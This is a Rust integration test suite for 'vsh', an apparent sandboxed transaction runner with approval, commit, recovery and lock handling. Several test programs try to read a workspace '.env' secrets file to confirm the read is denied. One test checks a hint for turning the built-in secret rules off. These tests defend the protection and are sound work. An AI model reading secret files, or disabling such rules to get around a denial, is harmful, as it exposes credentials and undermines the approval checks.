    assert_eq!(approved.status.code(), Some(0), "{}", String::from_utf8_lossy(&approved.stderr));
    // It says what comes next (ux56).
    let said = String::from_utf8_lossy(&approved.stdout);
    assert!(said.trim_end().ends_with(&format!("; next: vsh commit {}", &id[..12])), "{said}");
    let committed = vsh(&["commit", &id[..8], "--workspace", ws, "--json"], None);
    assert_eq!(committed.status.code(), Some(0), "{}", String::from_utf8_lossy(&committed.stderr));
    assert_eq!(std::fs::read_to_string(dir.path().join("b.txt")).unwrap(), "b");
    // Its commit says so too, in the JSON receipt's warnings as on stderr.
    assert!(String::from_utf8_lossy(&committed.stderr).contains(own), "{committed:?}");
    let receipt: serde_json::Value = serde_json::from_slice(&committed.stdout).unwrap();
    let warnings = receipt["warnings"].as_array().unwrap();
    assert!(warnings.iter().any(|warning| warning.as_str().unwrap().contains("a policy of its own")), "{receipt}");
    // The review afterwards has the state history, in order.
    let shown = String::from_utf8_lossy(&vsh(&["show", &id, "--workspace", ws], None).stdout).into_owned();
    let history: Vec<&str> = shown
        .lines()
        .skip_while(|line| *line != "history")
        .skip(1)
        .take_while(|line| line.starts_with("  "))
        .filter_map(|line| line.split_whitespace().nth(3))
        .collect();
    assert_eq!(
        history,
        ["pending-approval", "approved", "reserved", "revalidating", "committing", "committed"],
        "{shown}"
    );

    // A policy file rides with its transaction too, custom rules and all.
    let strict = "version = 1\nprofile = \"strict\"\n[[protect]]\npattern = \"c.txt\"\naccess = [\"modify\"]\n";
    std::fs::write(dir.path().join("strict.toml"), strict).unwrap();
    let run = vsh(
        &["run", "--workspace", ws, "--policy", dir.path().join("strict.toml").to_str().unwrap(), "-"],
        Some("from pathlib import Path\nPath('d.txt').write_text('d')"),
    );
    let id = id_of(&run);
    assert_eq!(vsh(&["approve", &id, "--workspace", ws], None).status.code(), Some(0));
    assert_eq!(vsh(&["commit", &id, "--workspace", ws], None).status.code(), Some(0));
    assert!(dir.path().join("d.txt").exists());

    // Work made under the workspace's own policy is not: after `vsh init`
    // changes it, its approval is refused as before.
    let run = vsh(&["run", "--workspace", ws, "-"], Some("from pathlib import Path\nPath('a.txt').unlink()"));
    let id = id_of(&run);
    let done = id_of(&vsh(&["run", "--workspace", ws, "-"], Some("from pathlib import Path\nPath('d.txt').unlink()")));
    assert_eq!(vsh(&["approve", "--commit", &done, "--workspace", ws], None).status.code(), Some(0));
    assert_eq!(vsh(&["init", "--workspace", ws, "--profile", "strict"], None).status.code(), Some(0));
    let shown = String::from_utf8_lossy(&vsh(&["show", &id, "--workspace", ws], None).stdout).into_owned();
    assert!(shown.contains("the workspace's policy changed since this was made"), "{shown}");
    // Committed work is told no more than that (ux68 M3: running it again
    // would do it twice).
    let shown = String::from_utf8_lossy(&vsh(&["show", &done, "--workspace", ws], None).stdout).into_owned();
    assert!(shown.contains("policy       made under the workspace's policy as it was then, since replaced"), "{shown}");
    assert!(!shown.contains("vsh rerun"), "{shown}");
    let refused = vsh(&["approve", &id, "--workspace", ws], None);
    assert_eq!(refused.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&refused.stderr).contains("vsh rerun"), "{refused:?}");
    // Denied work is shown by its record.
    let caught = "from pathlib import Path\ntry:\n    Path('.env').read_text()\nexcept PermissionError:\n    pass";
    let denied = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(caught)));
    let shown = vsh(&["show", &denied, "--workspace", ws], None);
    assert_eq!(shown.status.code(), Some(0), "{shown:?}");
    assert!(String::from_utf8_lossy(&shown.stdout).contains("record       denied"), "{shown:?}");
}

#[test]
fn pending_lists_newest_first_and_a_run_that_changes_nothing_has_nothing_to_commit() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let mut ids = Vec::new();
    for name in ["a", "b", "c"] {
        let run = vsh(
            &["run", "--workspace", ws, "-"],
            Some(&format!("from pathlib import Path\nPath('{name}.txt').write_text('x')")),
        );
        ids.push(id_of(&run)[..12].to_owned());
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let pending = vsh(&["pending", "--workspace", ws], None);
    let table = String::from_utf8_lossy(&pending.stdout).into_owned();
    let mut lines: Vec<&str> = table.lines().collect();
    // A queue of more than one ends with its shape (ux57 #5).
    assert_eq!(lines.pop(), Some("3 waiting: 0 pending approval, 0 approved, 3 auto-approved (to commit)"), "{table}");
    let listed: Vec<String> =
        lines.iter().skip(1).map(|line| line.split_whitespace().next().unwrap().to_owned()).collect();
    ids.reverse();
    assert_eq!(listed, ids, "newest first");
    let nothing = vsh(&["run", "--workspace", ws, "-"], Some("1 + 1"));
    let text = String::from_utf8_lossy(&nothing.stdout);
    assert!(text.contains("  next       nothing: it changes no path"), "{text}");
    assert!(!text.contains("vsh commit"), "{text}");
}

#[test]
fn pending_work_is_listed_approved_and_committed_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "old.txt", "old\n");
    let ws = dir.path().to_str().unwrap();
    let delete = "from pathlib import Path\nPath('/workspace/old.txt').unlink()";
    let run = vsh(&["--detailed-exitcode", "run", "--workspace", ws, "--json", "-"], Some(delete));
    assert_eq!(run.status.code(), Some(4));
    let receipt: serde_json::Value = serde_json::from_slice(&run.stdout).unwrap();
    let id = receipt["transaction"].as_str().unwrap().to_owned();

    let pending = vsh(&["pending", "--workspace", ws], None);
    let table = String::from_utf8_lossy(&pending.stdout);
    let lines: Vec<&str> = table.lines().collect();
    assert_eq!(lines.len(), 2, "a header and one row: {table}");
    assert!(lines[0].starts_with("id") && lines[0].contains("flags") && lines[0].ends_with("intent"), "{table}");
    let row: Vec<&str> = lines[1].split_whitespace().collect();
    assert_eq!(row[0], &id[..12], "{table}");
    assert!(row.contains(&"pending-approval") && row.contains(&"1"), "one path changed: {table}");
    assert!(lines[1].contains("deletion"), "the risk flag: {table}");
    let json = vsh(&["pending", "--workspace", ws, "--json"], None);
    let rows: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(rows["schema"], "vsh.pending/1");
    assert_eq!(rows["transactions"][0]["transaction"], id.as_str());
    assert_eq!(rows["transactions"][0]["changed_paths"], 1);
    // The review names when it was made and until when it waits.
    let review = vsh(&["show", &id, "--workspace", ws], None);
    let review = String::from_utf8_lossy(&review.stdout);
    assert!(review.contains("record       pending-approval, made 20"), "{review}");
    assert!(review.contains(" s ago)"), "{review}");
    let shown = vsh(&["show", &id, "--workspace", ws], None);
    assert_eq!(shown.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&shown.stdout).contains("old.txt"));

    let early = vsh(&["commit", &id, "--workspace", ws], None);
    assert_eq!(early.status.code(), Some(4), "not approved yet");
    assert!(dir.path().join("old.txt").exists());
    let short = &id[..12];
    assert!(
        String::from_utf8_lossy(&early.stderr)
            .contains(&format!("next: `vsh show {short} && vsh approve {short} && vsh commit {short}`")),
        "the way on: {}",
        String::from_utf8_lossy(&early.stderr)
    );

    let approved = vsh(&["approve", &id, "--workspace", ws, "--principal", "ann", "--ttl", "60"], None);
    assert_eq!(approved.status.code(), Some(0), "{}", String::from_utf8_lossy(&approved.stderr));
    // Approving twice changes nothing and says so, as a second commit does.
    let again = vsh(&["approve", &id, "--workspace", ws], None);
    assert_eq!(again.status.code(), Some(0), "{}", String::from_utf8_lossy(&again.stderr));
    assert!(String::from_utf8_lossy(&again.stdout).contains("already approved (principal "), "{again:?}");
    let review = vsh(&["show", &id, "--workspace", ws], None);
    let review = String::from_utf8_lossy(&review.stdout);
    let ann = vsh::PrincipalId::digest(b"ann").short();
    // Who approved it, by name, however much later (ux68 M2: the digest alone).
    assert!(review.contains(&format!("approved     by ann (principal {ann}) at ")), "{review}");
    let record: serde_json::Value =
        serde_json::from_slice(&vsh(&["show", &id, "--workspace", ws, "--json"], None).stdout).unwrap();
    assert_eq!(record["record"]["approval"]["name"], "ann", "{record}");
    assert!(
        // 60 s from the approval, shown a moment later (up to 10 s on a busy machine).
        review.contains("valid until ")
            && (review.contains("(in 1 min)") || (50..60).any(|s| review.contains(&format!("(in {s} s)")))),
        "{review}"
    );
    let committed = vsh(&["commit", &id, "--workspace", ws], None);
    assert_eq!(committed.status.code(), Some(0), "{}", String::from_utf8_lossy(&committed.stderr));
    assert!(!dir.path().join("old.txt").exists());
    let log = String::from_utf8_lossy(&vsh(&["log", "--workspace", ws], None).stdout).into_owned();
    assert!(log.lines().any(|line| line.starts_with(&id[..12]) && line.contains("  ann  ")), "{log}");
    assert_eq!(
        String::from_utf8_lossy(&vsh(&["pending", "--workspace", ws], None).stdout),
        "no pending transactions\n"
    );
    let recover = vsh(&["recover", "--workspace", ws], None);
    assert_eq!(
        String::from_utf8_lossy(&recover.stdout),
        "rolled forward 0, rolled back 0, cleaned 0, unresolved 0, conflicts 0\n"
    );
    assert_eq!(recover.status.code(), Some(0));

    let again = vsh(
        &["run", "--workspace", ws, "--json", "-"],
        Some(
            "from pathlib import Path\nPath('/workspace/x').write_text('x')\nPath('/workspace/x').unlink()\nPath('/workspace/y').unlink()",
        ),
    );
    assert_eq!(again.status.code(), Some(1), "FileNotFoundError is uncaught");
}

#[test]
fn a_denial_review_names_the_rule_and_how_to_allow_it() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), ".env", "S=1\n");
    let ws = dir.path().to_str().unwrap();
    let program = "from pathlib import Path\ntry:\n    Path('/workspace/.env').read_text()\nexcept PermissionError:\n    pass\nPath('/workspace/a.txt').write_text('a')";
    let output = vsh(&["--detailed-exitcode", "run", "--workspace", ws, "--full", "-"], Some(program));
    assert_eq!(output.status.code(), Some(5));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("decision: denied (protected-access-attempt)"), "{stdout}");
    assert!(stdout.contains("content-read of .env denied by rule"), "{stdout}");
    // The remedy, once per refusal (the receipt's line and the review's each).
    // It reads as what to do (ux84 L5: "to allow: built-in secret rule ...").
    assert!(stdout.contains("to allow: set defaults.secrets = false (turns off the built-in secret rules"), "{stdout}");
    assert_eq!(stdout.matches("`**/.env*/**` among them)").count(), 2, "{stdout}");
}

/// Holds `.vsh/commit.lock` of a workspace, as a committing vsh process would,
/// until dropped.
struct HeldLock(std::process::Child);

impl HeldLock {
    fn take(workspace: &Path) -> Self {
        std::fs::create_dir_all(workspace.join(".vsh")).unwrap();
        Self::take_file(&workspace.join(".vsh/commit.lock"), workspace)
    }

    /// Hold the lock file `lock` (its directory exists), with a marker in `scratch`.
    fn take_file(lock: &Path, scratch: &Path) -> Self {
        let ready = scratch.join("lock-held");
        // One process (the shell, exec'ed into sleep) holds the lock, so
        // killing it releases the lock.
        let child = Command::new("sh")
            .args(["-c", "exec 9>\"$0\" && flock 9 && touch \"$1\" && exec sleep 60"])
            .arg(lock)
            .arg(&ready)
            .spawn()
            .unwrap();
        let started = std::time::Instant::now();
        while !ready.exists() {
            assert!(started.elapsed() < std::time::Duration::from_secs(20), "flock never took the lock");
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
        std::fs::remove_file(ready).unwrap();
        Self(child)
    }
}

impl Drop for HeldLock {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn commands_that_need_the_commit_lock_wait_visibly_and_give_up_with_exit_75() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "old.txt", "old\n");
    let ws = dir.path().to_str().unwrap();
    let run =
        vsh(&["run", "--workspace", ws, "--json", "-"], Some("from pathlib import Path\nPath('old.txt').unlink()"));
    assert_eq!(run.status.code(), Some(0));
    let id =
        serde_json::from_slice::<serde_json::Value>(&run.stdout).unwrap()["transaction"].as_str().unwrap().to_owned();
    assert_eq!(vsh(&["approve", &id, "--workspace", ws], None).status.code(), Some(0));

    let held = HeldLock::take(dir.path());
    // Read-only commands and approvals never wait for the writer.
    for read_only in [&["pending", "--workspace", ws][..], &["show", &id, "--workspace", ws]] {
        let started = std::time::Instant::now();
        let output = vsh(read_only, None);
        assert_eq!(output.status.code(), Some(0), "{read_only:?}: {output:?}");
        assert!(started.elapsed() < std::time::Duration::from_secs(20));
        assert!(output.stderr.is_empty(), "{read_only:?}: {}", String::from_utf8_lossy(&output.stderr));
    }
    let preview = vsh(&["run", "--workspace", ws, "-"], Some("print('hi')"));
    assert_eq!(preview.status.code(), Some(0), "{}", String::from_utf8_lossy(&preview.stderr));

    // A commit says it waits, then gives up with its own exit code.
    for waiting in [
        vec!["commit", &id, "--workspace", ws, "--lock-timeout", "1.5"],
        vec!["recover", "--workspace", ws, "--lock-timeout", "1.5"],
        vec!["run", "--mode", "auto", "--workspace", ws, "--lock-timeout", "1.5", "-"],
    ] {
        let output = vsh(&waiting, Some("from pathlib import Path\nPath('new.txt').write_text('n')"));
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(75), "{waiting:?}: {stderr}");
        assert!(stderr.contains("waiting for another vsh process"), "{waiting:?}: {stderr}");
        assert!(stderr.contains("gave up after"), "{waiting:?}: {stderr}");
        // And what to do next (ux78 L5).
        assert!(stderr.contains("wait longer with --lock-timeout SECS"), "{waiting:?}: {stderr}");
    }
    // The timeout also comes from the environment.
    let mut command = Command::new(env!("CARGO_BIN_EXE_vsh"));
    let output =
        command.args(["commit", &id, "--workspace", ws]).env_clear().env("VSH_LOCK_TIMEOUT", "0.2").output().unwrap();
    assert_eq!(output.status.code(), Some(75), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(dir.path().join("old.txt").exists(), "nothing was committed while the lock was held");
    assert!(!dir.path().join("new.txt").exists());

    // Once the holder is gone, the same commit goes through.
    drop(held);
    let committed = vsh(&["commit", &id, "--workspace", ws, "--lock-timeout", "30"], None);
    assert_eq!(committed.status.code(), Some(0), "{}", String::from_utf8_lossy(&committed.stderr));
    assert!(!dir.path().join("old.txt").exists());
}

#[test]
fn exec_waits_for_another_runs_commands_within_the_lock_timeout_and_says_so() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let ws = dir.path().to_str().unwrap();
    assert_eq!(vsh(&["init", "-q", "--workspace", ws], None).status.code(), Some(0));
    // Another run's commands hold the scratch directories.
    let held = HeldLock::take_file(&dir.path().join(".vsh/data/scratch.lock"), dir.path());
    let started = std::time::Instant::now();
    let output = vsh(&["exec", "--workspace", ws, "--lock-timeout", "1.5", "--", "true"], None);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(75), "{stderr}");
    assert!(stderr.contains("waiting for another vsh process"), "{stderr}");
    assert!(stderr.contains("scratch directories") && stderr.contains("gave up after"), "{stderr}");
    assert!(stderr.contains("wait longer with --lock-timeout SECS"), "{stderr}");
    assert!(started.elapsed() < std::time::Duration::from_secs(20), "the lock timeout, not the run's deadline");
    drop(held);
    let ran = vsh(&["exec", "--workspace", ws, "--lock-timeout", "1.5", "--", "true"], None);
    assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
    // A wait that ends is the receipt's wait, not its execution.
    let held = HeldLock::take_file(&dir.path().join(".vsh/data/scratch.lock"), dir.path());
    let waiting = Command::new(env!("CARGO_BIN_EXE_vsh"))
        .args(["exec", "--workspace", ws, "--json", "--lock-timeout", "60", "--", "true"])
        .env_clear()
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(1_200));
    drop(held);
    let output = waiting.wait_with_output().unwrap();
    let receipt: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let (wait, execute) = (&receipt["timings_ns"]["wait"], &receipt["timings_ns"]["execute"]);
    assert!(wait.as_u64().unwrap() >= 1_000_000_000, "{receipt}");
    assert!(execute.as_u64().unwrap() < wait.as_u64().unwrap(), "{receipt}");
}

#[test]
fn arguments_that_are_not_utf8_are_paths_or_usage_errors_never_a_panic() {
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt;

    let dir = tempfile::tempdir().unwrap();
    let workspace = dir.path().join(OsStr::from_bytes(b"ws\xff"));
    std::fs::create_dir(&workspace).unwrap();
    let program = dir.path().join(OsStr::from_bytes(b"p\xfe.py"));
    std::fs::write(&program, "from pathlib import Path\nPath('out.txt').write_text('ok')").unwrap();
    let run = |args: &[&OsStr]| Command::new(env!("CARGO_BIN_EXE_vsh")).args(args).env_clear().output().unwrap();

    let committed = run(&[
        "run".as_ref(),
        "--mode=auto".as_ref(),
        "--workspace".as_ref(),
        workspace.as_os_str(),
        program.as_os_str(),
    ]);
    assert_eq!(committed.status.code(), Some(0), "{}", String::from_utf8_lossy(&committed.stderr));
    assert_eq!(std::fs::read_to_string(workspace.join("out.txt")).unwrap(), "ok");

    let missing = dir.path().join(OsStr::from_bytes(b"missing\xff"));
    let error = run(&["run".as_ref(), "--workspace".as_ref(), missing.as_os_str(), program.as_os_str()]);
    assert_eq!(error.status.code(), Some(1), "{}", String::from_utf8_lossy(&error.stderr));
    assert!(String::from_utf8_lossy(&error.stderr).contains("cannot open the workspace"));

    let no_program = run(&["run".as_ref(), "--workspace".as_ref(), workspace.as_os_str(), missing.as_os_str()]);
    assert_eq!(no_program.status.code(), Some(1), "{}", String::from_utf8_lossy(&no_program.stderr));
    assert!(String::from_utf8_lossy(&no_program.stderr).contains("cannot read"));

    for text_argument in [
        &["show".as_ref(), OsStr::from_bytes(b"\xff")][..],
        &["run".as_ref(), "--intent".as_ref(), OsStr::from_bytes(b"\xff"), "-".as_ref()],
        &["run".as_ref(), "--mode".as_ref(), OsStr::from_bytes(b"\xff"), "-".as_ref()],
        &[OsStr::from_bytes(b"\xff")],
    ] {
        let usage = run(text_argument);
        assert_eq!(usage.status.code(), Some(2), "{text_argument:?}: {}", String::from_utf8_lossy(&usage.stderr));
    }
}

#[test]
fn every_command_has_help_and_usage_errors_exit_2() {
    for command in ["run", "pending", "show", "approve", "reject", "commit", "recover", "demo"] {
        let help = vsh(&[command, "--help"], None);
        assert_eq!(help.status.code(), Some(0), "{command}");
        assert!(String::from_utf8_lossy(&help.stdout).contains("Usage: vsh "), "{command}");
    }
    let top = vsh(&["--help"], None);
    assert!(String::from_utf8_lossy(&top.stdout).contains("75  gave up waiting"));
    assert_eq!(vsh(&["--version"], None).status.code(), Some(0));
    assert_eq!(vsh(&["commit"], None).status.code(), Some(2));
    assert_eq!(vsh(&["recover", "--restore"], None).status.code(), Some(2));
    // A conflict between flags vsh checks itself shows the subcommand's
    // usage line, as clap's own errors do (ux49 L5).
    let conflict = vsh(&["run", "--confined", "-"], Some("1"));
    let stderr = String::from_utf8_lossy(&conflict.stderr);
    assert_eq!(conflict.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("--confined is for Bash programs") && stderr.contains("Usage: vsh run "), "{stderr}");
}

/// Appends to `a.txt` once, right after the commit installed its new content,
/// as an editor saving at the wrong moment would.
struct AppendAfterInstall {
    path: std::path::PathBuf,
    done: std::sync::atomic::AtomicBool,
}

impl vsh::lower::vsh_commit::FaultInjector for AppendAfterInstall {
    fn crash_at(&self, point: vsh::lower::vsh_commit::FaultPoint) -> bool {
        use std::io::Write;
        use std::sync::atomic::Ordering;
        if matches!(point, vsh::lower::vsh_commit::FaultPoint::OperationApplied(_))
            && std::fs::read(&self.path).is_ok_and(|bytes| bytes == b"changed")
            && !self.done.swap(true, Ordering::SeqCst)
        {
            std::fs::OpenOptions::new().append(true).open(&self.path).unwrap().write_all(b" +theirs").unwrap();
        }
        false
    }
}

#[test]
fn recover_names_what_a_racing_writer_left_and_restore_puts_the_before_state_back() {
    racing_writer_left_and_restored(false, false);
}

/// ux66 F5: the operator's other resolution keeps the workspace as it is
/// (the writer's bytes stay); what the commit had taken is moved aside.
#[test]
fn recover_keep_leaves_the_workspace_as_it_is_and_keeps_what_the_commit_took() {
    racing_writer_left_and_restored(false, true);
}

/// The same, for work whose preview was durable (the command line's): its
/// review has a receipt of its own, whose next step is the restore too.
#[test]
fn recover_names_what_a_racing_writer_left_in_durable_work_and_show_names_the_restore() {
    racing_writer_left_and_restored(true, false);
}

fn racing_writer_left_and_restored(durable: bool, keep: bool) {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    write(&ws, "a.txt", "alpha");
    write(&ws, "b.txt", "bravo");
    let key = dir.path().join("authority.key");
    let worker = vsh::WorkerConfig::new(env!("CARGO_BIN_EXE_vsh")).with_args(["__vsh-monty-worker"]);
    let writer = std::sync::Arc::new(AppendAfterInstall { path: ws.join("a.txt"), done: false.into() });
    let config = vsh::RuntimeConfig::new(&ws)
        .with_worker(worker)
        .with_authority_key_file(&key)
        .with_commit_fault_injector(writer);
    let config = if durable { config.with_durable_previews(vsh::DurablePreviews::default()) } else { config };
    let runtime = vsh::Runtime::open(config).unwrap();
    let program = "from pathlib import Path\nPath('a.txt').write_text('changed')\nPath('b.txt').write_text('new b')";
    let receipt = runtime.run(&vsh::RunRequest::new(program).with_mode(vsh::RunMode::Auto)).unwrap_err();
    assert!(matches!(receipt, vsh::VshError::Commit(_)), "{receipt:?}");
    drop(runtime);
    let cli = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_vsh")).args(args).env_clear().env("VSH_AUTHORITY_KEY", &key).output().unwrap()
    };
    let ws_arg = ws.to_str().unwrap();

    let report = cli(&["recover", "--workspace", ws_arg]);
    let stdout = String::from_utf8_lossy(&report.stdout);
    assert_eq!(report.status.code(), Some(1), "an operator has something to look at: {stdout}");
    assert!(stdout.starts_with("rolled forward 0, rolled back 0, cleaned 0, unresolved 1, conflicts 0\n"), "{stdout}");
    assert!(stdout.contains("    a.txt (install)"), "the ambiguous path is named: {stdout}");
    let hint = stdout.lines().find(|line| line.contains("vsh recover --restore ")).expect("a restore hint");
    let id = hint.rsplit(' ').next().unwrap().to_owned();
    assert_eq!(std::fs::read(ws.join("a.txt")).unwrap(), b"changed +theirs", "the writer's bytes are kept");
    assert_eq!(std::fs::read(ws.join("b.txt")).unwrap(), b"bravo", "the independent path was rolled back");

    let json = cli(&["recover", "--workspace", ws_arg, "--json"]);
    let value: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(value["unresolved"][0]["transaction"], id.as_str());
    assert_eq!(value["unresolved"][0]["paths"][0]["path"], "a.txt");
    // It waits for an operator, and every place one looks says so (ux68 M4),
    // the queue's count line too, beside other waiting work (ux69 L12).
    let program = dir.path().join("other.py");
    std::fs::write(&program, "from pathlib import Path\nPath('c.txt').write_text('c')").unwrap();
    assert_eq!(cli(&["run", "--workspace", ws_arg, program.to_str().unwrap()]).status.code(), Some(0));
    let pending = String::from_utf8_lossy(&cli(&["pending", "--workspace", ws_arg]).stdout).into_owned();
    assert!(pending.contains(&id[..12]) && pending.contains("recovery-required"), "{pending}");
    assert!(pending.contains("2 waiting: ") && pending.contains(", 1 interrupted (to recover)"), "{pending}");
    assert!(pending.contains(&format!("vsh recover --restore {}", &id[..12])), "{pending}");
    let listed: serde_json::Value =
        serde_json::from_slice(&cli(&["pending", "--workspace", ws_arg, "--json"]).stdout).unwrap();
    assert!(
        listed["transactions"].as_array().unwrap().iter().any(|row| row["state"] == "recovery-required"),
        "{listed}"
    );
    let shown = String::from_utf8_lossy(&cli(&["show", "--workspace", ws_arg, &id]).stdout).into_owned();
    assert!(shown.contains(&format!("next       vsh recover --restore {}", &id[..12])), "{shown}");
    let doctor = cli(&["doctor", "--workspace", ws_arg]);
    assert_eq!(doctor.status.code(), Some(1), "{}", String::from_utf8_lossy(&doctor.stdout));
    assert!(stdout.contains(&format!("vsh recover --keep {id}")), "{stdout}");
    if keep {
        let both = cli(&["recover", "--workspace", ws_arg, "--restore", &id, "--keep", &id]);
        assert_eq!(both.status.code(), Some(2), "one resolution at a time");
        let kept = cli(&["recover", "--workspace", ws_arg, "--keep", &id]);
        let stdout = String::from_utf8_lossy(&kept.stdout);
        assert_eq!(kept.status.code(), Some(0), "{stdout}{}", String::from_utf8_lossy(&kept.stderr));
        assert!(
            stdout.contains("failed: the workspace is kept as it is") && stdout.contains("  left as it is: a.txt\n"),
            "{stdout}"
        );
        assert_eq!(std::fs::read(ws.join("a.txt")).unwrap(), b"changed +theirs", "the workspace is kept");
        assert_eq!(std::fs::read(ws.join("b.txt")).unwrap(), b"bravo");
        let aside = stdout
            .lines()
            .find_map(|line| {
                line.strip_prefix(
                    "  kept aside what the commit had taken from a.txt (its before state, or a racing writer's): ",
                )
            })
            .expect("aside");
        assert_eq!(std::fs::read(ws.join(aside)).unwrap(), b"alpha", "what the commit took is kept");
        let json = cli(&["recover", "--workspace", ws_arg, "--json"]);
        assert_eq!(json.status.code(), Some(0), "nothing left: {}", String::from_utf8_lossy(&json.stdout));
        let shown = String::from_utf8_lossy(&cli(&["show", "--workspace", ws_arg, &id]).stdout).into_owned();
        assert!(shown.contains("failed") && !shown.contains("vsh recover"), "{shown}");
        let again = cli(&["recover", "--workspace", ws_arg, "--keep", &id]);
        assert_eq!(again.status.code(), Some(1));
        assert!(String::from_utf8_lossy(&again.stderr).contains(&format!("nothing to keep for {}", &id[..12])));
        return;
    }

    let restored = cli(&["recover", "--workspace", ws_arg, "--restore", &id]);
    let stdout = String::from_utf8_lossy(&restored.stdout);
    assert_eq!(restored.status.code(), Some(0), "{stdout}{}", String::from_utf8_lossy(&restored.stderr));
    assert!(stdout.contains("  restored a.txt\n"), "{stdout}");
    let aside = stdout.lines().find_map(|line| line.strip_prefix("  moved aside a.txt -> ")).expect("moved aside");
    assert_eq!(std::fs::read(ws.join(aside)).unwrap(), b"changed +theirs", "nothing is deleted");
    assert_eq!(std::fs::read(ws.join("a.txt")).unwrap(), b"alpha");

    let clean = cli(&["recover", "--workspace", ws_arg]);
    assert_eq!(clean.status.code(), Some(0), "{}", String::from_utf8_lossy(&clean.stdout));
    let again = cli(&["recover", "--workspace", ws_arg, "--restore", &id]);
    assert_eq!(again.status.code(), Some(1), "a settled transaction has nothing to restore");
    let said = String::from_utf8_lossy(&again.stderr);
    assert!(
        said.contains(&format!("nothing to restore for {}", &id[..12])) && !said.contains("commit failed"),
        "{said}"
    );
}

#[test]
fn a_unique_prefix_names_a_transaction_like_git() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "old.txt", "old\n");
    let ws = dir.path().to_str().unwrap();
    let run = vsh(&["run", "--workspace", ws, "-"], Some("from pathlib import Path\nPath('old.txt').unlink()"));
    let id = id_of(&run);
    let shown = vsh(&["show", &id[..8], "--workspace", ws], None);
    assert_eq!(shown.status.code(), Some(0), "{}", String::from_utf8_lossy(&shown.stderr));
    assert!(String::from_utf8_lossy(&shown.stdout).contains(&id), "the review names the whole id");
    let upper = id[..6].to_ascii_uppercase();
    assert_eq!(vsh(&["approve", &upper, "--workspace", ws], None).status.code(), Some(0), "six digits, any case");
    let committed = vsh(&["commit", &id[..10], "--workspace", ws], None);
    assert_eq!(committed.status.code(), Some(0), "{}", String::from_utf8_lossy(&committed.stderr));
    assert!(!dir.path().join("old.txt").exists());
    // One wording for a transaction that is not there, and a clear one for a name too short.
    let absent = if id.starts_with("ffffff") { "eeeeee" } else { "ffffff" };
    let missing = vsh(&["show", absent, "--workspace", ws], None);
    assert_eq!(missing.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&missing.stderr).contains(&format!("no such transaction {absent}")));
    let short = vsh(&["show", &id[..5], "--workspace", ws], None);
    assert_eq!(short.status.code(), Some(2), "a name that cannot name a transaction is a usage error");
    assert!(String::from_utf8_lossy(&short.stderr).contains("at least 6 of its hex digits"), "{short:?}");
}

/// `vsh` run with these environment variables (after clearing the rest).
fn vsh_env(args: &[&str], env: &[(&str, &str)], stdin: &str) -> Output {
    use std::io::Write;
    let mut command = Command::new(env!("CARGO_BIN_EXE_vsh"));
    command.args(args).env_clear().envs(env.iter().copied());
    let mut child = command
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let _ = child.stdin.take().unwrap().write_all(stdin.as_bytes());
    child.wait_with_output().unwrap()
}

#[test]
fn colour_follows_the_flag_no_color_clicolor_force_and_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "notes.txt", "one\ntwo\n");
    let ws = dir.path().to_str().unwrap();
    let edit = "from pathlib import Path\nPath('notes.txt').write_text('one\\nTWO\\n')\nPath('old').mkdir()";
    let escapes = |output: &Output| output.stdout.windows(2).any(|pair| pair == b"\x1b[");
    let run = |extra: &[&str], env: &[(&str, &str)]| {
        let mut args = vec!["run", "--full", "--workspace", ws];
        args.extend_from_slice(extra);
        args.push("-");
        let output = vsh_env(&args, env, edit);
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        output
    };
    // Piped: plain by default, and whenever NO_COLOR is set or --color never asks.
    assert!(!escapes(&run(&[], &[])));
    assert!(!escapes(&run(&["--color", "never"], &[("CLICOLOR_FORCE", "1")])));
    assert!(!escapes(&run(&[], &[("NO_COLOR", "1")])));
    // Coloured when asked, the decision included, not only the hunks.
    let forced = run(&["--color", "always"], &[]);
    let text = String::from_utf8_lossy(&forced.stdout);
    assert!(escapes(&forced), "{text}");
    assert!(text.contains("decision     \x1b["), "the decision is coloured: {text:?}");
    assert!(text.contains("\x1b[32m+TWO"), "so are the hunks: {text:?}");
    assert!(escapes(&run(&[], &[("CLICOLOR_FORCE", "1")])), "CLICOLOR_FORCE colours a pipe");
    // -q prints no receipt at all.
    assert!(run(&["-q"], &[]).stdout.is_empty());
}

#[test]
fn a_terminal_gets_colour_unless_no_color_is_set() {
    // `script` gives the command a pseudo-terminal and records what it wrote.
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "notes.txt", "one\n");
    let program = dir.path().join("program.py");
